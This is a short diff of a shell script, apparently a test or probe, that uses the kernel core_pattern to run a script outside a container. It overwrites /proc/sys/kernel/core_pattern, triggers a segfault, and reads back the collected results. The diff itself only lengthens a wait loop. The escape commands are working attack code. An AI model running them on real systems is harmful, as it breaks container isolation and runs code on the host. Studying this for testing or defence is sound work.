@@ -126,7 +126,7 @@ rm -f /tmp/pool
 old=$(cat /proc/sys/kernel/core_pattern)
 echo '|/proc/%P/root/bin/busybox sh /proc/%P/root/tmp/outside %P' >/proc/sys/kernel/core_pattern
 ( ulimit -c unlimited; sh -c 'kill -SEGV $$' ) 2>/dev/null
-for n in 1 2 3 4 5 6 7 8 9; do grep -q end /tmp/pool && break; sleep 1; done
+for n in $(seq 600); do grep -q end /tmp/pool && break; sleep 1; done
 echo "$old" >/proc/sys/kernel/core_pattern
 grep '^/d/' /tmp/pool | sort`
 
